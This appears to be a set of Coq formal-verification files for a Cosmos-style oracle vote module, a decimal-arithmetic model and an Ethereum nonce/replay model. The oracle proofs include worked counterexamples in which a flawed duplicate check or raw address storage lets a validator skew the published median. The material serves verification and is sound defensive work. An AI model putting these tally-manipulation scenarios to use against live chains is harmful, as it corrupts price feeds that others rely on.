        -- apply andb_true_iff in Ec as [Ec _]. apply andb_true_iff in Ec as [Ec _]. apply andb_true_iff in Ec as [_ Ec].
           apply tuples_ok_nodup in Ec.
           split; [|split; [reflexivity|]].
           ++ unfold canonical_store. cbn [ms_votes]. apply put_svote_canonical; [reflexivity | exact Hc].
           ++ intros r cast pvs -> ->. cbn [track]. rewrite Ev. cbn [ms_votes ms_prevotes].
              rewrite put_svote_map, del_sprev_map, (dedup_nodup _ Ec). reflexivity.
        -- split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
      * injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
    + injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
    + injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
  - unfold deliver_delegate in H.
    destruct (decode (dm_operator m)) as [v|]; [destruct (decode (dm_delegate m)) as [d|]|].
    + destruct (dm_isval m); injection H as <- <-; (split; [exact Hc|]; split; [reflexivity|]);
        intros r cast pvs -> ->; destruct r; reflexivity.
    + injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
    + injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. intros r cast pvs -> ->. reflexivity.
Qed.

Lemma deliver_all_track p wl h : forall ms s s1 acc,
  deliver_all true true p wl h s ms = (s1, acc) -> canonical_store s ->
  canonical_store s1 /\ ms_rates s1 = ms_rates s /\ length acc = length ms /\
  track h (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) (combine ms acc) =
  Some (map to_avote (ms_votes s1), map to_prevote (ms_prevotes s1)).
Proof.
  induction ms as [|m ms IH]; intros s s1 acc H Hc.
  - injection H as <- <-. split; [exact Hc|]. split; [reflexivity|]. split; reflexivity.
  - cbn [deliver_all] in H. destruct (deliver true true p wl h s m) as [s' a] eqn:E.
    destruct (deliver_all true true p wl h s' ms) as [s2 acc'] eqn:E2. injection H as <- <-.
    destruct (deliver_track p wl h s m s' a E Hc) as [Hc' [Hr Ht]].
    destruct (IH s' s2 acc' E2 Hc') as [Hc2 [Hr2 [Hl2 Ht2]]].
    split; [exact Hc2|]. split; [congruence|]. split; [cbn [length]; congruence|].
    cbn [combine]. rewrite (Ht (combine ms acc') _ _ eq_refl eq_refl). exact Ht2.
Qed.

(** the identity map "message string -> validator" is applied before anything is stored *)
Theorem stored_voter_is_canonical p wl h ms s s1 acc :
  deliver_all true true p wl h s ms = (s1, acc) -> canonical_store s ->
  canonical_store s1 /\ votes_seen (ms_votes s1) = map to_avote (ms_votes s1).
Proof.
  intros H Hc. destruct (deliver_all_track p wl h ms s s1 acc H Hc) as [Hc1 _].
  split; [exact Hc1 | exact (votes_seen_canonical _ Hc1)].
Qed.

(** MAIN (one vote per validator and pair): whatever messages are delivered — repeated pairs adjacent, non-adjacent, three
    times, with equal or different rates — with the all-pairs duplicate test of the parser the tally at the end of the block
    sees at most one vote of each validator for each pair *)
Theorem one_vote_per_validator_and_pair p wl h ms s s1 acc e rs pr :
  deliver_all true true p wl h s ms = (s1, acc) -> canonical_store s -> well_keyed s ->
  NoDup (map pv_voter (pair_votes (env_state e (votes_seen (ms_votes s1)) rs) pr)).
Proof.
  intros H Hc Hw. destruct (deliver_all_track p wl h ms s s1 acc H Hc) as [Hc1 _].
  destruct (deliver_all_well_keyed true p wl h ms s s1 acc H Hw) as [Hk Hs].
  rewrite (votes_seen_canonical _ Hc1). unfold pair_votes. cbn [env_state votes].
  apply pair_voters_distinct; [apply to_avote_sorted; exact Hk|].
  apply Forall_forall. intros a Ha. apply in_map_iff in Ha as [sv [<- Hsv]].
  unfold single_pairs in Hs. rewrite Forall_forall in Hs. exact (Hs sv Hsv).
Qed.

(** both store invariants hold again after every block of a history *)
Theorem mhist_step_invariants fx p e s x acc s' evs :
  mhist_step true true fx p e s x = (acc, Some (s', evs)) -> canonical_store s -> well_keyed s ->
  canonical_store s' /\ well_keyed s'.
Proof.
  unfold mhist_step. intros H Hc Hw.
  destruct (deliver_all true true p (he_whitelist e) (mp_h x) s (mp_msgs x)) as [s1 a1] eqn:E.
  destruct (deliver_all_track p _ _ _ _ _ _ E Hc) as [Hc1 _].
  pose proof (deliver_all_well_keyed true p _ _ _ _ _ _ E Hw) as Hw1.
  destruct (end_block fx p (env_state e (votes_seen (ms_votes s1)) (ms_rates s1)) (mp_h x)) as [|rs ev]; [discriminate|].
  destruct (is_period_last (mp_h x) (p_vote_period p)); injection H as _ <- _.
  - split; [constructor | split; [exact I | constructor]].
  - split; [exact Hc1 | exact Hw1].
Qed.

(* ---------------------------------------------------------------- the history property at message level *)

Definition mobs_of (acc : list bool) (s : mstate) (evs : list (nat * Z)) : mobs :=
  mkMObs acc false (ms_rates s) evs (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)).
Definition panic_mobs (acc : list bool) : mobs := mkMObs acc true [] [] [] [].

Fixpoint mhist_obs (fc dc fx : bool) (p : params) (s : mstate) (xs : list (henv * mstep)) : list (henv * mstep * mobs) :=
  match xs with
  | [] => []
  | (e, x) :: r => match mhist_step fc dc fx p e s x with
                   | (acc, None) => [(e, x, panic_mobs acc)]
                   | (acc, Some (s', evs)) => (e, x, mobs_of acc s' evs) :: mhist_obs fc dc fx p s' r
                   end
  end.

(** MAIN (message level): for every sequence of blocks of prevote / vote / delegate messages — every field in any
    spelling, accepted or not — and every per-block staking view, each EndBlocker outcome of the current code satisfies
    P w.r.t. exactly the votes cast BY IDENTITY through accepted messages since the last period end. *)
Theorem mhist_holds p : forall xs, Forall (fun ex => wf_env (fst ex)) xs -> forall s, canonical_store s ->
  P_mhist p (ms_rates s) (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) (mhist_obs true true true p s xs).
Proof.
  induction xs as [|[e x] xs IH]; intros Hall s Hc; [exact I|].
  inversion Hall as [|? ? Hw Hr]; subst. simpl in Hw.
  cbn [mhist_obs]. unfold mhist_step.
  destruct (deliver_all true true p (he_whitelist e) (mp_h x) s (mp_msgs x)) as [s1 acc] eqn:E.
  destruct (deliver_all_track p _ _ _ _ _ _ E Hc) as [Hc1 [Hr1 [Hl Ht]]].
  rewrite (votes_seen_canonical _ Hc1).
  pose proof (end_block_holds p (env_state e (map to_avote (ms_votes s1)) (ms_rates s1)) (mp_h x)
                              (wf_env_state e _ _ Hw)) as HP.
  destruct (end_block true p (env_state e (map to_avote (ms_votes s1)) (ms_rates s1)) (mp_h x)) as [|rs evs] eqn:Eb.
  - cbn [P_mhist]. split; [|intro Hx; discriminate].
    unfold P_mstep. cbn [panic_mobs mo_acc mo_panic]. split; [exact Hl|].
    eexists _, _. split; [exact Ht|]. split; [rewrite <- Hr1; exact HP | intro Hx; discriminate].
  - destruct (is_period_last (mp_h x) (p_vote_period p)) eqn:El.
    + cbn [P_mhist]. split.
      * unfold P_mstep. cbn [mobs_of mo_acc mo_panic]. split; [exact Hl|].
        eexists _, _. split; [exact Ht|]. rewrite El. split; [rewrite <- Hr1; exact HP|].
        intros _. cbn [mobs_of mo_votes mo_prevotes ms_votes ms_prevotes map]. split; [reflexivity | apply keep_sprev_map].
      * intros _. cbn [mobs_of mo_acc mo_rates]. rewrite Ht, El.
        pose proof (IH Hr (mkMS rs [] (filter (keep_sprev p (mp_h x)) (ms_prevotes s1)) (ms_feeders s1))
                       (Forall_nil _)) as H.
        cbn [ms_rates ms_votes ms_prevotes map] in H. rewrite keep_sprev_map in H. exact H.
    + cbn [P_mhist]. split.
      * unfold P_mstep. cbn [mobs_of mo_acc mo_panic]. split; [exact Hl|].
        eexists _, _. split; [exact Ht|]. rewrite El. split; [rewrite <- Hr1; exact HP|].
        intros _. split; reflexivity.
      * intros _. cbn [mobs_of mo_acc mo_rates]. rewrite Ht, El.
        exact (IH Hr (mkMS rs (ms_votes s1) (ms_prevotes s1) (ms_feeders s1)) Hc1).
Qed.

(* ---------------------------------------------------------------- independence of the spelling *)

(** two strings that stand for the same address (or are both rejected) *)
Definition astr_equiv (a b : astr) : Prop := decode a = decode b.

(** the same message up to the spelling of its address FIELDS (the hash committed to is part of the content) *)
Definition omsg_equiv (m1 m2 : omsg) : Prop :=
  match m1, m2 with
  | MPrevote a, MPrevote b =>
      astr_equiv (pm_validator a) (pm_validator b) /\ astr_equiv (pm_feeder a) (pm_feeder b) /\
      pm_hash a = pm_hash b /\ pm_bonded a = pm_bonded b
  | MVote a, MVote b =>
      astr_equiv (vm_validator a) (vm_validator b) /\ astr_equiv (vm_feeder a) (vm_feeder b) /\
      vm_salt a = vm_salt b /\ vm_rates a = vm_rates b /\ vm_tuples a = vm_tuples b /\ vm_bonded a = vm_bonded b
  | MDelegate a, MDelegate b =>
      astr_equiv (dm_operator a) (dm_operator b) /\ astr_equiv (dm_delegate a) (dm_delegate b) /\
      dm_isval a = dm_isval b
  | _, _ => False
  end.
Definition mstep_equiv (x1 x2 : henv * mstep) : Prop :=
  fst x1 = fst x2 /\ mp_h (snd x1) = mp_h (snd x2) /\ Forall2 omsg_equiv (mp_msgs (snd x1)) (mp_msgs (snd x2)).

Lemma deliver_spelling dc p wl h s m1 m2 : omsg_equiv m1 m2 -> deliver true dc p wl h s m1 = deliver true dc p wl h s m2.
Proof.
  destruct m1 as [a|a|a], m2 as [b|b|b]; cbn [omsg_equiv]; try contradiction; unfold astr_equiv.
  - intros [Hv [Hf [Hh Hb]]]. cbn [deliver]. unfold deliver_prevote, voter_string. rewrite Hv, Hf, Hh, Hb. reflexivity.
  - intros [Hv [Hf [Hs [Hr [Ht Hb]]]]]. cbn [deliver]. unfold deliver_vote, voter_string.
    rewrite Hv, Hf, Hs, Hr, Ht, Hb. reflexivity.
  - intros [Hv [Hf Hb]]. cbn [deliver]. unfold deliver_delegate. rewrite Hv, Hf, Hb. reflexivity.
Qed.

Lemma deliver_all_spelling dc p wl h : forall ms1 ms2, Forall2 omsg_equiv ms1 ms2 ->
  forall s, deliver_all true dc p wl h s ms1 = deliver_all true dc p wl h s ms2.
Proof.
  induction 1 as [|m1 m2 ms1 ms2 Hm _ IH]; intro s; [reflexivity|].
  cbn [deliver_all]. rewrite (deliver_spelling dc p wl h s m1 m2 Hm).
  destruct (deliver true dc p wl h s m2) as [s1 a]. rewrite IH. reflexivity.
Qed.

Lemma mhist_step_spelling dc fx p e s x1 x2 :
  mp_h x1 = mp_h x2 -> Forall2 omsg_equiv (mp_msgs x1) (mp_msgs x2) ->
  mhist_step true dc fx p e s x1 = mhist_step true dc fx p e s x2.
Proof.
  intros Hh Hm. unfold mhist_step. rewrite Hh, (deliver_all_spelling dc p (he_whitelist e) (mp_h x2) _ _ Hm s). reflexivity.
Qed.

(** MAIN: which messages are accepted and which rates are published — at every block of a history — do not depend
    on how the validator / feeder / operator / delegate fields of the messages are spelled *)
Theorem spelling_irrelevant dc fx p : forall xs1 xs2, Forall2 mstep_equiv xs1 xs2 ->
  forall s, mhist_events true dc fx p s xs1 = mhist_events true dc fx p s xs2.
Proof.
  induction 1 as [|[e1 x1] [e2 x2] xs1 xs2 [He [Hh Hm]] _ IH]; intro s; [reflexivity|].
  cbn [fst snd] in He, Hh, Hm. subst e2. cbn [mhist_events].
  rewrite (mhist_step_spelling dc fx p e1 s x1 x2 Hh Hm).
  destruct (mhist_step true dc fx p e1 s x2) as [acc [[s' evs]|]]; [|reflexivity]. rewrite IH. reflexivity.
Qed.

(* ---------------------------------------------------------------- witnesses *)

(** five bonded validators of power 10 vote 100, 100, 200, 300, 300 on pair 0 through prevote (block 1) and vote
    (block 2) messages, VotePeriod 1; [sp] is the spelling validator 2 (and its feeder field) uses *)
Definition e10 : henv :=
  mkHEnv [mkVal 0 true 10; mkVal 1 true 10; mkVal 2 true 10; mkVal 3 true 10; mkVal 4 true 10] 100 50000000 1000000 [0%nat].
Definition p10 : params := mkParams 1 500000000000000000 1 10 20000000000000000.
Definition sp_of (sp : spelling) (i : nat) : spelling := if Nat.eqb i 2 then sp else SpLower.
Definition ex_rate (i : nat) : Z := (match i with 0%nat | 1%nat => 100 | 2%nat => 200 | _ => 300 end) * 1000000000000000000.
Definition ex_prevote (sp : spelling) (i : nat) : omsg :=
  MPrevote (mkPMsg (mkAStr i (sp_of sp i)) (mkAStr i (sp_of sp i)) (mkHash 1 i (canon i)) true).
Definition ex_vote (sp : spelling) (i : nat) : omsg :=
  MVote (mkVMsg (mkAStr i (sp_of sp i)) (mkAStr i (sp_of sp i)) 1 i [(0%nat, ex_rate i)] true).
Definition ex_hist (sp : spelling) : list (henv * mstep) :=
  [(e10, mkMStep (map (ex_prevote sp) [0; 1; 2; 3; 4]%nat) 1); (e10, mkMStep (map (ex_vote sp) [0; 1; 2; 3; 4]%nat) 2)].
Definition ms0 : mstate := mkMS [] [] [] [].
Definition all5 : list bool := [true; true; true; true; true].

Lemma e10_wf : wf_env e10.
Proof. intros v Hv. repeat (destruct Hv as [<-|Hv]; [simpl; lia|]). destruct Hv. Qed.

Lemma ex_hist_equiv : Forall2 mstep_equiv (ex_hist SpUpper) (ex_hist SpLower).
Proof.
  repeat constructor; cbn [fst snd mp_h mp_msgs ex_hist]; try reflexivity;
    repeat constructor; vm_compute; repeat split; reflexivity.
Qed.

(** the current code publishes the weighted median 200 whichever spelling validator 2 uses *)
Example ex_spelling_nonvacuous :
  Forall2 mstep_equiv (ex_hist SpUpper) (ex_hist SpLower) /\
  ex_hist SpUpper <> ex_hist SpLower /\
  mhist_events true true true p10 ms0 (ex_hist SpUpper) = [(all5, []); (all5, [(0%nat, 200 * 1000000000000000000)])] /\
  mhist_events true true true p10 ms0 (ex_hist SpLower) = [(all5, []); (all5, [(0%nat, 200 * 1000000000000000000)])].
Proof.
  split; [exact ex_hist_equiv|]. split; [intro H; vm_compute in H; discriminate|]. split; vm_compute; reflexivity.
Qed.

Example ex_mhist_nonvacuous :
  canonical_store ms0 /\ Forall (fun ex => wf_env (fst ex)) (ex_hist SpUpper) /\
  map (fun o => mo_events (snd o)) (mhist_obs true true true p10 ms0 (ex_hist SpUpper)) = [[]; [(0%nat, 200 * 1000000000000000000)]].
Proof.
  split; [constructor|]. split; [repeat constructor; exact e10_wf | vm_compute; reflexivity].
Qed.

(** a message server that stores the raw [msg.Validator] string: the upper-case vote of validator 2 is accepted
    and stored but never found by the tally — 100 is published, which is not a weighted median of the five votes,
    and the outcome depends on the spelling *)
Lemma raw_events sp :
  mhist_events false true true p10 ms0 (ex_hist sp) =
  [(all5, []); (all5, [(0%nat, match sp with SpLower => 200 | _ => 100 end * 1000000000000000000)])] \/ sp = SpBad.
Proof. destruct sp; [left | left | right]; vm_compute; reflexivity. Qed.

Theorem raw_voter_string_refuted :
  exists p s xs1 xs2,
    canonical_store s /\ Forall (fun ex => wf_env (fst ex)) xs1 /\ Forall2 mstep_equiv xs1 xs2 /\
    mhist_events false true true p s xs1 <> mhist_events false true true p s xs2 /\
    ~ P_mhist p (ms_rates s) (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) (mhist_obs false true true p s xs1).
Proof.
  exists p10, ms0, (ex_hist SpUpper), (ex_hist SpLower).
  split; [constructor|]. split; [repeat constructor; exact e10_wf|]. split; [exact ex_hist_equiv|].
  split; [intro H; vm_compute in H; discriminate|].
  intro HP.
  assert (E : mhist_obs false true true p10 ms0 (ex_hist SpUpper) =
              [(e10, mkMStep (map (ex_prevote SpUpper) [0; 1; 2; 3; 4]%nat) 1,
                mkMObs all5 false [] [] []
                       [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)]);
               (e10, mkMStep (map (ex_vote SpUpper) [0; 1; 2; 3; 4]%nat) 2,
                mkMObs all5 false [mkRate 0 (100 * 1000000000000000000) 2] [(0%nat, 100 * 1000000000000000000)] [] [])])
    by (vm_compute; reflexivity).
  rewrite E in HP. clear E. cbn [P_mhist ms_rates ms_votes ms_prevotes ms0 map] in HP.
  destruct HP as [_ HP]. specialize (HP eq_refl).
  cbn [mp_h mp_msgs mo_acc mo_rates] in HP.
  assert (T1 : track 1 [] [] (combine [ex_prevote SpUpper 0; ex_prevote SpUpper 1; ex_prevote SpUpper 2; ex_prevote SpUpper 3; ex_prevote SpUpper 4] all5) =
               Some ([], [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)])) by (vm_compute; reflexivity).
  rewrite T1 in HP. clear T1.
  change (is_period_last 1 (p_vote_period p10)) with true in HP. cbv iota in HP.
  assert (F1 : filter (keep_prevote p10 1) [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)] =
               [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)]) by (vm_compute; reflexivity).
  rewrite F1 in HP. clear F1.
  destruct HP as [[_ [cast' [pvs' [Ht [HPP _]]]]] _].
  cbn [mp_h mp_msgs mo_acc] in Ht.
  assert (T2 : track 2 [] [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)]
                     (combine [ex_vote SpUpper 0; ex_vote SpUpper 1; ex_vote SpUpper 2; ex_vote SpUpper 3; ex_vote SpUpper 4] all5) =
               Some (map (fun i => mkAVote i [(0%nat, ex_rate i)]) [0; 1; 2; 3; 4]%nat, [])) by (vm_compute; reflexivity).
  rewrite T2 in Ht. injection Ht as <- <-. clear T2.
  unfold P in HPP. cbn [mp_h] in HPP. change (is_period_last 2 (p_vote_period p10)) with true in HPP. cbv iota in HPP.
  assert (D : domain p10 (env_state e10 (map (fun i => mkAVote i [(0%nat, ex_rate i)]) [0; 1; 2; 3; 4]%nat) []) 2 = true)
    by (vm_compute; reflexivity).
  specialize (HPP D). destruct HPP as [rs [evs [Eo [_ [H2 _]]]]].
  unfold mo_outcome in Eo. cbn [mo_panic mo_rates mo_events] in Eo. injection Eo as <- <-.
  destruct (H2 0%nat _ (or_introl eq_refl)) as [Hm _].
  apply is_median_b_iff in Hm. vm_compute in Hm. discriminate.
Qed.

(** a parser that compares each pair only with the PRECEDING one ([dc = false]): validators 0-3 of power 10 vote 100, 200,
    300, 400 on pair 0; validator 4 sends ONE vote naming pair 0 twice at rate 1 with pair 1 in between.  The message is
    accepted, the tally counts validator 4 twice (power 60 instead of 50, six voters instead of five) and publishes 100; the
    weighted median of the five validators' votes is 200.  The current parser refuses the message and 200 is published. *)
Definition e10b : henv :=
  mkHEnv [mkVal 0 true 10; mkVal 1 true 10; mkVal 2 true 10; mkVal 3 true 10; mkVal 4 true 10] 100 50000000 1000000 [0%nat; 1%nat].
Definition rp_tuples (i : nat) : list (nat * Z) :=
  match i with
  | 4%nat => [(0%nat, 1 * 1000000000000000000); (1%nat, 5 * 1000000000000000000); (0%nat, 1 * 1000000000000000000)]
  | _ => [(0%nat, Z.of_nat (S i) * 100 * 1000000000000000000)]
  end.
Definition rp_prevote (i : nat) : omsg := MPrevote (mkPMsg (canon i) (canon i) (mkHash 1 i (canon i)) true).
Definition rp_vote (i : nat) : omsg := MVote (mkVMsg (canon i) (canon i) 1 i (rp_tuples i) true).
Definition rp_hist : list (henv * mstep) :=
  [(e10b, mkMStep [rp_prevote 0; rp_prevote 1; rp_prevote 2; rp_prevote 3; rp_prevote 4] 1);
   (e10b, mkMStep [rp_vote 0; rp_vote 1; rp_vote 2; rp_vote 3; rp_vote 4] 2)].

Lemma e10b_wf : wf_env e10b.
Proof. intros v Hv. repeat (destruct Hv as [<-|Hv]; [simpl; lia|]). destruct Hv. Qed.

Example ex_repeated_pair_refused_nonvacuous :
  mhist_events true true true p10 ms0 rp_hist =
  [(all5, []); ([true; true; true; true; false], [(0%nat, 200 * 1000000000000000000)])].
Proof. vm_compute. reflexivity. Qed.

Theorem adjacent_only_duplicate_check_refuted :
  exists p s xs,
    canonical_store s /\ well_keyed s /\ Forall (fun ex => wf_env (fst ex)) xs /\
    mhist_events true false true p s xs <> mhist_events true true true p s xs /\
    ~ P_mhist p (ms_rates s) (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) (mhist_obs true false true p s xs).
Proof.
  exists p10, ms0, rp_hist.
  split; [constructor|]. split; [split; [exact I | constructor]|]. split; [repeat constructor; exact e10b_wf|].
  split; [intro H; vm_compute in H; discriminate|].
  intro HP.
  assert (E : mhist_obs true false true p10 ms0 rp_hist =
              [(e10b, mkMStep [rp_prevote 0; rp_prevote 1; rp_prevote 2; rp_prevote 3; rp_prevote 4] 1,
                mkMObs all5 false [] [] []
                       [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)]);
               (e10b, mkMStep [rp_vote 0; rp_vote 1; rp_vote 2; rp_vote 3; rp_vote 4] 2,
                mkMObs all5 false [mkRate 0 (100 * 1000000000000000000) 2] [(0%nat, 100 * 1000000000000000000)] [] [])])
    by (vm_compute; reflexivity).
  rewrite E in HP. clear E. cbn [P_mhist ms_rates ms_votes ms_prevotes ms0 map] in HP.
  destruct HP as [_ HP]. specialize (HP eq_refl).
  cbn [mp_h mp_msgs mo_acc mo_rates] in HP.
  assert (T1 : track 1 [] [] (combine [rp_prevote 0; rp_prevote 1; rp_prevote 2; rp_prevote 3; rp_prevote 4] all5) =
               Some ([], [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)])) by (vm_compute; reflexivity).
  rewrite T1 in HP. clear T1.
  change (is_period_last 1 (p_vote_period p10)) with true in HP. cbv iota in HP.
  assert (F1 : filter (keep_prevote p10 1) [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)] =
               [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)]) by (vm_compute; reflexivity).
  rewrite F1 in HP. clear F1.
  destruct HP as [[_ [cast' [pvs' [Ht [HPP _]]]]] _].
  cbn [mp_h mp_msgs mo_acc] in Ht.
  assert (T2 : track 2 [] [(0%nat, 1); (1%nat, 1); (2%nat, 1); (3%nat, 1); (4%nat, 1)]
                     (combine [rp_vote 0; rp_vote 1; rp_vote 2; rp_vote 3; rp_vote 4] all5) =
               Some (map (fun i => mkAVote i (dedup_pairs (rp_tuples i))) [0; 1; 2; 3; 4]%nat, [])) by (vm_compute; reflexivity).
  rewrite T2 in Ht. injection Ht as <- <-. clear T2.
  unfold P in HPP. cbn [mp_h] in HPP. change (is_period_last 2 (p_vote_period p10)) with true in HPP. cbv iota in HPP.
  assert (D : domain p10 (env_state e10b (map (fun i => mkAVote i (dedup_pairs (rp_tuples i))) [0; 1; 2; 3; 4]%nat) []) 2 = true)
    by (vm_compute; reflexivity).
  specialize (HPP D). destruct HPP as [rs [evs [Eo [_ [H2 _]]]]].
  unfold mo_outcome in Eo. cbn [mo_panic mo_rates mo_events] in Eo. injection Eo as <- <-.
  destruct (H2 0%nat _ (or_introl eq_refl)) as [Hm _].
  apply is_median_b_iff in Hm. vm_compute in Hm. discriminate.
Qed.
