(** cosmossdk.io/math v1.4.0 LegacyDec arithmetic on raw integers (value * 10^18), as implemented
    (validated against the Go library on 17,742 generated cases in the design phase, and on every
    run of the properties that use it through their own correspondence).  No proofs in this file. *)
From Coq Require Import ZArith List Bool.
Import ListNotations.
Local Open Scope Z_scope.

Definition PREC : Z := 1000000000000000000.
Definition HALF : Z := 500000000000000000.

(* chopPrecisionAndRound: banker's rounding of d / 10^18, sign-symmetric *)
Definition chop_round_pos (d : Z) : Z :=
  let q := d / PREC in let r := d mod PREC in
  if Z.eqb r 0 then q
  else if Z.ltb r HALF then q
  else if Z.ltb HALF r then q + 1
  else if Z.even q then q else q + 1.
Definition chop_round (d : Z) : Z := if Z.ltb d 0 then - chop_round_pos (- d) else chop_round_pos d.

Definition mul (a b : Z) : Z := chop_round (a * b).
Definition quo (a b : Z) : Z := chop_round (Z.quot (a * PREC * PREC) b).
Definition quo_int (a : Z) (i : Z) : Z := Z.quot a i.
Definition mul_int (a : Z) (i : Z) : Z := a * i.
Definition round_int (a : Z) : Z := chop_round a.
Definition truncate_int (a : Z) : Z := Z.quot a PREC.

(* PowerMut *)
Fixpoint pow_loop (fuel : nat) (i : Z) (d tmp : Z) : Z * Z :=
  match fuel with
  | O => (d, tmp)
  | S f => if Z.leb i 1 then (d, tmp)
           else let tmp' := if Z.eqb (i mod 2) 0 then tmp else mul tmp d in
                pow_loop f (i / 2) (mul d d) tmp'
  end.
Definition power (d : Z) (n : Z) : Z :=
  if Z.eqb n 0 then PREC else let '(d', tmp) := pow_loop 70 n d PREC in mul d' tmp.

(* common.SqrtDec: isqrt of the raw integer, as a Dec, divided by Dec(10^9) *)
Definition sqrt_dec (a : Z) : Z := quo (Z.sqrt a * PREC) (1000000000 * PREC).

