(** C07 — executable model of the nonce / chain-id / replay path of an Ethereum tx:
    app/evmante (decorator chain of NewAnteHandlerEVM: EthValidateBasic, EthSigVerification,
    AnteDecVerifyEthAcc, AnteDecEthIncrementSenderSequence), baseapp.runTx (ante effects are kept,
    message effects are all-or-nothing), x/evm/keeper/msg_server.go (EthereumTx / ApplyEvmMsg:
    SetNonce(from, msg.Nonce) … SetNonce(from, msg.Nonce+1)), and the Cosmos signature path for the
    same key.  Since round 6 the auth ACCOUNT TYPE behind an address (EthAccount / BaseAccount / vesting
    account) and the accounts a message TOUCHES as a non-sender (recipient of value, callee, selfdestruct
    beneficiary) are in scope: the StateDB of a message loads every state object through the keeper's loader
    (x/evm/keeper/statedb.go getAccountWithoutBalance, parameter [load]) and its Commit writes every dirty
    object's nonce back as the auth sequence (Keeper.SetAccount).  No proofs in this file. *)
From Coq Require Import List Bool Arith NArith ZArith.
Import ListNotations.

(** what the message does once it reaches the msg server *)
Inductive exec_outcome :=
| ExecOk      (* runs to completion *)
| ExecVmErr   (* revert / out of gas / failed create: response with VmError, state kept *)
| ExecMsgErr. (* EthereumTx returns an error (e.g. gas limit below intrinsic gas) *)

Record emsg := {
  m_uid    : nat;          (* identity of the signed transaction (its hash) *)
  m_nonce  : N;
  m_cid    : option Z;     (* chain id the tx carries; None = unprotected legacy tx *)
  m_sig    : option nat;   (* oracle: address ECDSA recovery over the tx's own signing hash yields *)
  m_funded : bool;         (* the balance / fee-cap / gas checks of the other decorators pass *)
  m_exec   : exec_outcome;
  m_create : bool;         (* contract creation (To == nil); it deploys when it runs to completion *)
  m_touch  : list nat      (* accounts whose state object the execution dirties when it runs to completion:
                              recipient of the value, callee paid by an inner call, selfdestruct beneficiary *)
}.

(** the auth account type stored behind an address: EthAccount (what the EVM keeper and the ante handler
    create), BaseAccount (add-genesis-account, accounts created by a bank send), vesting account *)
Inductive akind := KEth | KBase | KVesting.

(** ApplyEvmMsg, the nonce the sender's state object gets BEFORE the EVM runs: from (is the message a contract
    creation?, nonce the object holds, msg.Nonce()) *)
Definition prefn := bool -> N -> N -> N.
(** as it stands (fix 80f60c9): a creation is reset to msg.Nonce() (evm.Create increments it itself), a call runs
    with the final nonce msg.Nonce()+1, as in go-ethereum *)
Definition pre_std : prefn := fun create _ n => if create then n else N.succ n.
(** before 80f60c9: reset to msg.Nonce() for creations and calls alike *)
Definition pre_reset_always : prefn := fun _ _ n => n.
(** variant: the reset of a creation only "undoes one ante increment" (held nonce = msg.Nonce()+1) *)
Definition pre_reset_if_single_increment : prefn :=
  fun create cur n => if create then (if N.eqb cur (N.succ n) then n else cur) else N.succ n.

(** the keeper's account loader: nonce of the state object, from the account's type and stored sequence *)
Definition loader := akind -> N -> N.
(** getAccountWithoutBalance as it stands: Nonce = acct.GetSequence() for every account type *)
Definition load_std : loader := fun _ q => q.
(** variant: the nonce is filled in only under the EthAccountI type assertion (like the code hash) *)
Definition load_eth_only : loader := fun k q => match k with KEth => q | _ => 0%N end.

Inductive tx :=
| TxEth (ms : list emsg)
| TxCosmos (acct : nat) (q : N) (ethkey : bool) (inner_ok : bool).

(** auth account sequences; an account that does not exist reads 0 *)
Definition state := nat -> N.
Definition upd (s : state) (a : nat) (v : N) : state := fun x => if Nat.eqb x a then v else s x.
Definition init : state := fun _ => 0%N.

(** decorators of the EVM ante chain (names as in app/evmante/evmante_handler.go) *)
Inductive dec :=
| DSetUpContext | DMempoolGasPrice | DValidateBasic | DSigVerify | DVerifyEthAcc | DCanTransfer
| DGasConsume | DIncrementSeq | DGasWanted | DEmitEvent | DOther.

Definition std_chain : list dec :=
  [DSetUpContext; DMempoolGasPrice; DValidateBasic; DSigVerify; DVerifyEthAcc; DCanTransfer;
   DGasConsume; DIncrementSeq; DGasWanted; DEmitEvent].

Section WithChain.
  Variable chain : Z.                     (* this chain's EIP-155 id *)
  Variable recover : emsg -> option nat.  (* chain-agnostic signature recovery *)
  Variable kinds : nat -> akind.          (* auth account type behind every address *)
  Variable load : loader.                 (* Keeper.GetAccount / getAccountWithoutBalance *)
  Variable pre : prefn.                   (* ApplyEvmMsg: SetNonce before evm.Create / evm.Call *)

  (** gethcore.MakeSigner(cfg, height).Sender: London signer — typed and EIP-155 txs must carry
      this chain's id; unprotected legacy txs fall through to the Homestead rule *)
  Definition sender_of (m : emsg) : option nat :=
    match m_cid m with
    | Some c => if Z.eqb c chain then recover m else None
    | None => recover m
    end.

  (** ante context: sequences + the From field of every message (empty until SigVerify fills it) *)
  Record actx := { a_seq : state; a_from : list (option nat) }.

  (** EthSigVerificationDecorator: every message must yield a sender; stores it in msg.From *)
  Fixpoint sig_pass (ms : list emsg) : option (list (option nat)) :=
    match ms with
    | [] => Some []
    | m :: r =>
        match sender_of m with
        | None => None
        | Some a => match sig_pass r with None => None | Some l => Some (Some a :: l) end
        end
    end.

  (** AnteDecVerifyEthAcc (+CanTransfer, GasConsume): From must be set, sender must afford the tx *)
